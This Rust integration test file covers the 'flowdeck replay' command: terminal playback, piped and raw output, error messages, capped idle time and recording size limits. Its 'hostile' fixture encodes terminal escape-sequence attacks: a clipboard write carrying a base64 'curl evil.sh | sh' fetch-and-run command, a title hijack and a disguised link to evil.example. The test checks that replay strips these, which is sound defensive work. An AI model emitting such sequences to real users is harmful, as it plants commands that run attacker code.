//! `flowdeck replay` as a person and a script use it: a run's recording played at a
//! terminal (read back from the terminal's screen), its plain stream into a pipe, another
//! session of the run, idle time capped, `q`, and the terminal left as it was.

// Helpers outside #[test] functions unwrap too: a failure there is the test's failure.
#![allow(clippy::unwrap_used)]

use flowdeck::term::{Terminals, WaitOutcome};
use serde_json::Value;
use std::path::Path;
use std::process::{Command, Output};

use crate::common;
use common::studio::{at_a_terminal, on_screen};

const TWO_SESSIONS: &str = r#"name: two_sessions
description: Works in its own shell, then in a second one it opens.
initial_state: first
states:
  first:
    action: { tool: run_command, params: { command: 'echo in-the-$((0+1))st' } }
    transitions: [ { condition: always, next_state: second } ]
  second:
    action: { tool: open_terminal, params: { command: [bash, --norc, --noprofile] } }
    transitions: [ { condition: always, next_state: type } ]
  type:
    action: { tool: send_input, params: { input_text: "echo in-the-$((1+1))nd\n" } }
    transitions: [ { condition: always, next_state: wait } ]
  wait:
    action: { tool: await_output, params: { pattern: '^in-the-2nd', timeout: 20 } }
"#;

fn flowdeck(dir: &Path, args: &[&str]) -> Output {
    flowdeck_with(dir, args, None)
}

/// `flowdeck` with FLOWDECK_RECORDINGS set to `recordings`, or unset; its runs' shells read
/// no rc file of the person running the tests (one may block while many shells start).
fn flowdeck_with(dir: &Path, args: &[&str], recordings: Option<&str>) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_flowdeck"));
    command
        .arg("--workflows")
        .arg(dir)
        .args(args)
        .envs(common::studio::quiet_env())
        .env_remove("FLOWDECK_RECORDINGS");
    if let Some(value) = recordings {
        command.env("FLOWDECK_RECORDINGS", value);
    }
    command.output().unwrap()
}

/// A folder with TWO_SESSIONS, run once: the folder and the run's result.
fn a_recorded_run() -> (tempfile::TempDir, Value) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("two_sessions.yaml"), TWO_SESSIONS).unwrap();
    let out = flowdeck(dir.path(), &["run", "two_sessions", "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let result: Value = serde_json::from_slice(&out.stdout).unwrap();
    (dir, result)
}

fn folder_args<'a>(dir: &'a str, more: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec!["--workflows", dir];
    args.extend_from_slice(more);
    args
}

#[test]
fn a_runs_recording_plays_at_a_terminal_and_its_plain_stream_into_a_pipe() {
    let (dir, result) = a_recorded_run();
    let run_id = result["run_id"].as_str().unwrap();
    let recordings = result["recordings"].as_array().unwrap();
    assert_eq!(recordings.len(), 2, "{result}");
    assert!(
        recordings[0]
            .as_str()
            .unwrap()
            .ends_with(&format!("{run_id}.cast"))
    );
    // Every recording the run has open is marked with each state it enters: the one it
    // began in from the first, the one it opened mid-run from the state that opened it.
    let markers = |path: &Value| -> Vec<String> {
        flowdeck::term::recording::cast::CastReader::open(Path::new(path.as_str().unwrap()))
            .unwrap()
            .filter_map(|e| match e.unwrap() {
                flowdeck::term::recording::cast::CastEvent::Marker(_, name) => Some(name),
                _ => None,
            })
            .collect()
    };
    assert_eq!(
        markers(&recordings[0]),
        ["first", "second", "type", "wait", "completed"]
    );
    assert_eq!(
        markers(&recordings[1]),
        ["second", "type", "wait", "completed"]
    );
    let folder = dir.path().display().to_string();

    // At a terminal: the run's first session, as it looked.
    let (code, screen) = at_a_terminal(&folder_args(&folder, &["replay", run_id]), Vec::new());
    assert_eq!(code, Some(0), "{screen}");
    assert!(screen.contains("in-the-1st"), "{screen}");
    assert!(!screen.contains("in-the-2nd"), "{screen}");
    // The other session is named, with how to play it.
    assert!(
        screen.contains(&format!("flowdeck replay {run_id} --session s2")),
        "{screen}"
    );
    let (code, screen) = at_a_terminal(
        &folder_args(
            &folder,
            &["replay", run_id, "--session", "s2", "--speed", "4"],
        ),
        Vec::new(),
    );
    assert_eq!(code, Some(0), "{screen}");
    assert!(screen.contains("in-the-2nd"), "{screen}");

    // Into a pipe: its plain text, at once; with --raw, the output events byte for byte.
    let piped = flowdeck(dir.path(), &["replay", run_id]);
    assert!(piped.status.success());
    let plain = String::from_utf8(piped.stdout).unwrap();
    assert!(plain.contains("\nin-the-1st\n"), "{plain:?}");
    assert!(!plain.contains('\x1b'), "{plain:?}");
    let piped = flowdeck(dir.path(), &["replay", run_id, "--raw"]);
    assert!(piped.status.success());
    let stream = common::recorded_output(recordings[0].as_str().unwrap());
    assert_eq!(String::from_utf8(piped.stdout).unwrap(), stream);
}

/// A recording of output that goes for the replaying terminal: a clipboard set to a command
/// (OSC 52), a window title (OSC 0), a link whose text hides its target (OSC 8), the same
/// clipboard through tmux's passthrough, and a question whose answer would be typed input.
fn hostile(dir: &Path) -> String {
    let path = dir.join("hostile.cast");
    let events = [
        "banner \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
        "\x1b]0;pwned-title\x07\x1b]2;pwned-title\x1b\\",
        "\x1b]8;;https://evil.example/\x1b\\click-here\x1b]8;;\x1b\\ ",
        "\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\\x1b[21t",
        "\x1b[1mend-of-banner\x1b[0m\r\n",
    ];
    let mut cast = String::from("{\"version\": 2, \"width\": 80, \"height\": 24}\n");
    for (i, text) in events.iter().enumerate() {
        let line = serde_json::json!([0.01 * (i + 1) as f64, "o", text]);
        cast.push_str(&format!("{line}\n"));
    }
    std::fs::write(&path, cast).unwrap();
    path.display().to_string()
}

/// Replays `cast` (with `more` arguments) in a window of `tmux`, which then waits for input
/// so that the window and what it shows stay; the replay's exit status, once it has ended.
fn replayed_in_tmux(tmux: &common::tmux::Tmux, window: &str, cast: &str, more: &str) -> String {
    let done = format!("{cast}.{window}.done");
    let command = format!(
        "{} replay {cast} {more}; echo $? > {done}; exec cat",
        env!("CARGO_BIN_EXE_flowdeck")
    );
    tmux.tmux(&["new-window", "-d", "-t", "t", "-n", window, &command]);
    common::wait_until(common::LONG, "the replay in tmux to end", || {
        std::fs::read_to_string(&done)
            .ok()
            .filter(|s| s.ends_with('\n'))
    })
}

#[test]
fn a_replay_cannot_set_the_clipboard_or_title_of_the_persons_tmux_unless_raw() {
    let Some(tmux) = common::tmux::Tmux::start() else {
        panic!("tmux is needed (.ci/run installs it)");
    };
    // tmux takes clipboard sequences from its panes into its paste buffers.
    tmux.tmux(&["set", "-g", "set-clipboard", "on"]);
    let dir = tempfile::tempdir().unwrap();
    let cast = hostile(dir.path());
    let title = |window: &str| {
        tmux.tmux(&[
            "display",
            "-p",
            "-t",
            &format!("t:{window}"),
            "#{pane_title}",
        ])
    };

    assert_eq!(replayed_in_tmux(&tmux, "safe", &cast, ""), "0\n");
    // tmux reads the pane's output on its own time: once the last line is shown, what came
    // before it was taken too.
    common::wait_until(common::LONG, "the replay's text in its tmux pane", || {
        let shown = tmux.tmux(&["capture-pane", "-p", "-t", "t:safe"]);
        shown
            .contains("banner click-here end-of-banner")
            .then_some(())
    });
    assert_eq!(tmux.tmux(&["list-buffers"]), "", "the clipboard was set");
    assert!(!title("safe").contains("pwned"), "{}", title("safe"));

    // The same with --raw: the sequences reach tmux (so the test above can see them).
    assert_eq!(replayed_in_tmux(&tmux, "raw", &cast, "--raw"), "0\n");
    common::wait_until(common::LONG, "tmux's buffer from --raw", || {
        tmux.tmux(&["show-buffer"])
            .contains("curl evil.sh")
            .then_some(())
    });
    // The title it set is taken back at the end (tmux keeps a title stack, as xterm does).
    common::wait_until(common::LONG, "the title taken back after --raw", || {
        (!title("raw").contains("pwned")).then_some(())
    });
}

#[test]
fn what_cannot_be_replayed_is_told_with_where_and_why() {
    let (dir, result) = a_recorded_run();
    let run_id = result["run_id"].as_str().unwrap();
    let cases: [(&[&str], &str); 4] = [
        (&["replay", "r1795718543388-0000"], "has no recording in"),
        (&["replay", "yesterday"], "neither a run id"),
        (
            &["replay", run_id, "--session", "s9"],
            "its other sessions: s2",
        ),
        (&["replay", run_id, "--speed", "0"], "not a number above 0"),
    ];
    for (args, told) in cases {
        let out = flowdeck(dir.path(), args);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(told), "{args:?}: {stderr}");
    }
    // A file that is not a recording, named with its line.
    let bogus = dir.path().join("bogus.cast");
    std::fs::write(
        &bogus,
        "{\"version\": 2, \"width\": 80, \"height\": 24}\n[1.0, \"o\"]\n",
    )
    .unwrap();
    let out = flowdeck(dir.path(), &["replay", &bogus.display().to_string()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("bogus.cast:2: not an event"), "{stderr}");
}

/// A recording of a full-screen program that then sits idle for ten minutes.
fn idle_full_screen(dir: &Path) -> String {
    let path = dir.join("idle.cast");
    std::fs::write(
        &path,
        concat!(
            "{\"version\": 2, \"width\": 80, \"height\": 24}\n",
            "[0.1, \"o\", \"\\u001b[?1049h\\u001b[?25l\\u001b[?2004hfull-screen program\"]\n",
            "[600.0, \"o\", \"\\r\\nten minutes later\"]\n",
        ),
    )
    .unwrap();
    path.display().to_string()
}

#[test]
fn long_pauses_are_capped_and_the_terminal_is_left_as_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let path = idle_full_screen(dir.path());
    // Ten minutes of idle time would outlast the test's deadline: the cap plays it in 2 s.
    let (code, screen) = at_a_terminal(&["replay", &path], Vec::new());
    assert_eq!(code, Some(0), "{screen}");
    // The alternate screen was left: the person's own screen is back, the program's gone.
    assert!(!screen.contains("full-screen program"), "{screen}");
}

/// `flowdeck replay ARGS` at a terminal: once `shown` is on its screen, `q` ends it with 0.
fn quit_when_shown(args: &[&str], shown: &str) {
    let terminals = Terminals::new(flowdeck::term::TermConfig::default());
    let mut program = vec![env!("CARGO_BIN_EXE_flowdeck").to_string(), "replay".into()];
    program.extend(args.iter().map(|a| a.to_string()));
    let session = common::studio::open(&terminals, program, None, (80, 24), Vec::new());
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(async {
        let seen = session.await_output(on_screen(shown)).await.unwrap();
        assert_eq!(seen.outcome, WaitOutcome::Matched, "{}", seen.tail);
        session.send_text("q", "test").unwrap();
        assert_eq!(common::studio::exit_code(&session).await, Some(0));
    });
    runtime.block_on(terminals.close_all());
}

#[test]
fn q_stops_a_replay_that_waits_however_long_its_times_say() {
    let dir = tempfile::tempdir().unwrap();
    let path = idle_full_screen(dir.path());
    quit_when_shown(&[&path, "--no-idle-limit"], "full-screen program");
    // Times no clock can add, at a speed that makes every pause endless: played, not a panic.
    let huge = dir.path().join("huge.cast");
    std::fs::write(
        &huge,
        "{\"version\": 2, \"width\": 80, \"height\": 24}\n[0.0, \"o\", \"first event\"]\n[1e19, \"o\", \"never\"]\n",
    )
    .unwrap();
    let huge = huge.display().to_string();
    quit_when_shown(&[&huge, "--no-idle-limit"], "first event");
    quit_when_shown(&[&huge, "--speed", "1e-300"], "first event");
}

#[test]
fn flowdeck_recordings_turns_recording_off_or_caps_it_and_a_bad_value_is_told() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("two_sessions.yaml"), TWO_SESSIONS).unwrap();
    let runs = dir.path().join(".flowdeck/runs");
    let casts = || -> Vec<std::path::PathBuf> {
        std::fs::read_dir(&runs)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "cast"))
            .collect()
    };
    let run = |recordings| {
        let out = flowdeck_with(
            dir.path(),
            &["run", "two_sessions", "--json"],
            Some(recordings),
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<Value>(&out.stdout).unwrap()
    };
    let off = run("off");
    assert!(off.get("recordings").is_none(), "{off}");
    assert!(casts().is_empty(), "{:?}", casts());

    let capped = run("4K");
    assert_eq!(
        capped["recordings"].as_array().unwrap().len(),
        2,
        "{capped}"
    );
    for cast in casts() {
        let size = std::fs::metadata(&cast).unwrap().len();
        assert!(size <= 4096, "{}: {size} bytes", cast.display());
    }

    let out = flowdeck_with(dir.path(), &["list"], Some("lots"));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("FLOWDECK_RECORDINGS=lots: not a size"),
        "{stderr}"
    );
}

/// What a person sees when a replay ends at their prompt: the replay's lines where it
/// played them, and what comes next below them, nothing overwritten.
#[test]
fn a_replay_leaves_the_cursor_below_what_it_played() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("lines.cast");
    std::fs::write(
        &path,
        concat!(
            "{\"version\": 2, \"width\": 80, \"height\": 24}\n",
            "[0.01, \"o\", \"line one\\r\\n\"]\n",
            "[0.02, \"o\", \"\\u001b[1mline two\\u001b[0m\"]\n",
        ),
    )
    .unwrap();
    let script = format!(
        "printf 'before\\n'; {} replay {}; printf 'after\\n'",
        env!("CARGO_BIN_EXE_flowdeck"),
        path.display()
    );
    let terminals = Terminals::new(flowdeck::term::TermConfig::default());
    let program = vec!["bash".to_string(), "-c".into(), script];
    let session = common::studio::open(&terminals, program, None, (80, 24), Vec::new());
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    assert_eq!(
        runtime.block_on(common::studio::exit_code(&session)),
        Some(0)
    );
    let screen = session.content(flowdeck::term::Content::Screen);
    let lines: Vec<&str> = screen.lines().filter(|l| !l.trim().is_empty()).collect();
    assert_eq!(
        lines,
        ["before", "line one", "line two", "after"],
        "{screen}"
    );
    runtime.block_on(terminals.close_all());
}
